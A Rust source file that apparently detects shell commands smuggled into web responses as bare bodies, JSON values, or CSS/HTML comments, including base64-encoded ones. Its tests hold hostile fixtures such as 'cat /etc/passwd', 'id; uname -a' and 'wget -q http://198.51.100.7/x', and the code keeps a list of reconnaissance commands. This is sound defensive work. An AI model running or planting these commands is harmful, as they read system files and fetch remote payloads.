//! Orders in what a web server answers: a command line alone, as a value, or in a comment.

use alloc::string::String;

use crate::shell;

/// Whether a body is a command line for a shell, alone or as a value in JSON.
pub(crate) fn is_order(head: &[u8]) -> bool {
    if matches!(head, [b'{' | b'[', ..]) {
        let text = String::from_utf8_lossy(head);
        let mut values = text.split('"').zip(text.split('"').skip(1));
        // A value follows a colon; a value of one word may mean anything.
        return values.any(|(before, value)| {
            before.trim() == ":" && value.contains(' ') && is_command_line(value.as_bytes())
        });
    }
    is_command_line(head)
}

fn is_command_line(text: &[u8]) -> bool {
    let word = text.iter().take_while(|byte| byte.is_ascii_alphanumeric()).count();
    // `id,name` is a table's first line.
    let ends = matches!(text.get(word), None | Some(b' ' | b'\r' | b'\n' | b';' | b'|' | b'&'));
    let is_legible = |byte: &u8| matches!(*byte, b' '..=b'~' | b'\r' | b'\n');
    ends && text.iter().all(is_legible) && shell::is_command(text)
}

/// How comments begin and end in style sheets and scripts, and in pages.
const COMMENTS: [(&[u8], &[u8]); 2] = [(b"/*", b"*/"), (b"<!--", b"-->")];
/// `cmd:` before what is hidden.
const FIELD_BYTES_MAX: usize = 16;

/// Whether a comment in a body is an order: nobody shows a comment to anybody.
pub(crate) fn hides_order(head: &[u8]) -> bool {
    COMMENTS.into_iter().any(|(begin, end)| {
        let mut rest = head;
        while let Some(from) = find(rest, begin) {
            rest = rest.get(from + begin.len()..).unwrap_or_default();
            // What is looked at may end before the comment does.
            let length = find(rest, end).unwrap_or(rest.len());
            let comment = rest.get(..length).unwrap_or_default().trim_ascii();
            if is_hidden_order(comment) || is_hidden_order(without_field(comment)) {
                return true;
            }
            rest = rest.get(length..).unwrap_or_default();
        }
        false
    })
}

fn find(text: &[u8], part: &[u8]) -> Option<usize> {
    text.windows(part.len()).position(|window| window == part)
}

/// What stands behind `cmd:` or `id=`.
fn without_field(comment: &[u8]) -> &[u8] {
    let place = comment.iter().position(|byte| matches!(byte, b':' | b'='));
    let rest = place.filter(|place| *place <= FIELD_BYTES_MAX).map(|place| place + 1);
    rest.and_then(|from| comment.get(from..)).unwrap_or_default().trim_ascii()
}

/// Prose begins with the names of commands too (`find`, `which`, `touch`): it has to go on as only
/// a command does, or to be encoded.
fn is_hidden_order(text: &[u8]) -> bool {
    let is_encoded = || shell::is_encoded(text) && is_mixed(text);
    is_encoded() || is_command_line(text) && goes_on_as_a_command(text)
}

/// A word may be base64 of something, too; hardly any has a capital behind its first letter, or a
/// digit.
fn is_mixed(text: &[u8]) -> bool {
    text.iter().skip(1).any(|byte| byte.is_ascii_uppercase() || byte.is_ascii_digit())
}

/// An option, a path, or a further command behind `;`, `|` or `&`; or no more than a word that is
/// no prose at all.
fn goes_on_as_a_command(line: &[u8]) -> bool {
    const NO_PROSE: [&[u8]; 6] = [b"id", b"whoami", b"uname", b"ifconfig", b"netstat", b"nproc"];
    let mut words = line.split(|byte| byte.is_ascii_whitespace()).skip(1);
    let is_argument = |word: &[u8]| match word {
        [b'-', letter, ..] => letter.is_ascii_alphabetic() && word.len() <= 6,
        [b'/', letter, ..] => letter.is_ascii_lowercase(),
        _ => false,
    };
    let goes_on = |rest: &[u8]| is_command_line(rest.trim_ascii());
    NO_PROSE.contains(&line)
        || words.any(is_argument)
        || line.split(|byte| b";|&".contains(byte)).skip(1).any(goes_on)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn orders_are_hidden_in_comments() {
        for body in [
            &b"body{color:red}/* id; uname -a */\n"[..],
            b"/* cmd: cat /etc/passwd */ body{}",
            b"/*aWQ7IHVuYW1lIC1h*/",
            b"/* c=aWQ= */",
            b"<html><!-- whoami --></html>",
            b"<html><!-- wget -q http://198.51.100.7/x",
        ] {
            assert!(hides_order(body), "{}", String::from_utf8_lossy(body));
        }
    }

    #[test]
    fn what_people_write_into_comments_is_no_order() {
        for body in [
            &b"/* find the header below */ #id { }"[..],
            b"/* touch devices */ /* id selectors */ /* export default shop; */",
            b"/* which of these wins? */ /* w - width, h - height */",
            b"/*! normalize.css v8.0.1 | MIT License | github.com/necolas/normalize.css */",
            b"/*# sourceMappingURL=data:application/json;base64,eyJ2ZXJzaW9uIjozfQ== */",
            b"<!-- ip: main navigation --><!-- exit intent -->",
            b"/* env: production */ /* version=1a2b3c4d */ /* top: 12px */",
            b"<html><body>ls -la</body></html>",
            b"",
        ] {
            assert!(!hides_order(body), "{}", String::from_utf8_lossy(body));
        }
    }
}
